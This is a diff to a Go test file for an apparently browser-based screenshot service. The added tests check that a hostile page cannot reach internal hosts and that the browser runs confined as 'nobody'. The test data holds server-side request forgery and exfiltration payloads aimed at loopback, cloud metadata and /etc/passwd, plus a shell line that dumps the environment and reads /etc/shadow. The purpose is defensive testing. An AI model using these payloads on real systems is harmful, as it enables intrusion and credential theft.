@@ -7,10 +7,13 @@ import (
 	"image/color"
 	"image/draw"
 	"image/png"
+	"net"
 	"net/http"
 	"net/http/httptest"
 	"os"
+	"os/exec"
 	"path/filepath"
+	"sync/atomic"
 	"testing"
 
 	"github.com/stretchr/testify/require"
@@ -74,7 +77,7 @@ func TestPagesOfTwoSitesAreLookedAt(t *testing.T) {
 	dir := t.TempDir()
 	// The address of the first is known to no DNS; the browser is told where it is.
 	left := Site{Address: "http://base.example", Connect: base.Listener.Addr().String()}
-	right := Site{Address: school.URL, Cookie: "nestseed_preview=key"}
+	right := Site{Address: school.URL, Private: true, Cookie: "nestseed_preview=key"}
 	pages, err := Take(context.Background(), browser, left, right, []string{"", "lessons/"}, dir, progress.Discard)
 	require.NoError(t, err)
 	require.Len(t, pages, 2)
@@ -96,9 +99,65 @@ func TestPagesOfTwoSitesAreLookedAt(t *testing.T) {
 	pages, err = Take(context.Background(), browser, left, right, []string{""}, dir, progress.Discard)
 	require.NoError(t, err)
 	require.Contains(t, pages[0].Problem, "base.example")
-	left2, err := filepath.Glob(filepath.Join(dir, ".browser-*"))
+	left2, err := filepath.Glob(filepath.Join(os.TempDir(), "nestseed-screenshots-*"))
 	require.NoError(t, err)
 	require.Empty(t, left2)
 	_, err = Find("no-such-browser")
 	require.NoError(t, err, "another is taken")
+}
+
+// A page that was put there by somebody who broke into the site asks for what only the service's machine can reach.
+func TestAPageReachesNothingButTheTwoSites(t *testing.T) {
+	browser, err := Find("")
+	require.NoError(t, err)
+	var reached atomic.Int32
+	inside := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		reached.Add(1)
+		w.Header().Set("Access-Control-Allow-Origin", "*")
+		fmt.Fprint(w, "secret")
+	}))
+	defer inside.Close()
+	port := inside.Listener.Addr().(*net.TCPAddr).Port
+	t.Setenv("NESTSEED_VAULT_KEY", "do not tell")
+	told := make(chan string, 20)
+	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/told" {
+			told <- r.URL.Query().Get("what")
+			return
+		}
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprintf(w, `<!doctype html><body style="background:#fff"><h1>Alder</h1>
+			<img src="http://127.0.0.1:%[1]d/a.png"><img src="http://localhost:%[1]d/b.png"><img src="http://[::1]:%[1]d/c.png"><iframe src="http://127.0.0.1:%[1]d/"></iframe><iframe src="file:///etc/passwd"></iframe>
+			<script>
+			for (const u of ['http://127.0.0.1:%[1]d/d', 'http://169.254.169.254/latest/', 'http://inside.localhost:%[1]d/e'])
+				fetch(u).then(r => r.text()).then(t => fetch('/told?what=' + t)).catch(() => 0)
+			try { new WebSocket('ws://127.0.0.1:%[1]d/ws') } catch (e) {}
+			</script>`, port)
+	}))
+	defer web.Close()
+	at := Site{Address: web.URL, Private: true}
+	pages, err := Take(context.Background(), browser, at, at, []string{""}, t.TempDir(), progress.Discard)
+	require.NoError(t, err)
+	require.Empty(t, pages[0].Problem)
+	require.Zero(t, reached.Load(), "nothing on this machine was reached")
+	close(told)
+	for what := range told {
+		t.Errorf("the page told %q", what)
+	}
+}
+
+func TestTheBrowserRunsAsNobodyWithAnEnvironmentOfItsOwn(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("only root can become nobody")
+	}
+	t.Setenv("NESTSEED_VAULT_KEY", "do not tell")
+	dir, as, err := workspace()
+	require.NoError(t, err)
+	defer os.RemoveAll(dir)
+	cmd := exec.Command("sh", "-c", "id -un; env; cat /etc/shadow 2>&1")
+	confine(cmd, dir, as)
+	out, _ := cmd.CombinedOutput()
+	require.Contains(t, string(out), "nobody")
+	require.NotContains(t, string(out), "do not tell")
+	require.Contains(t, string(out), "Permission denied")
 }
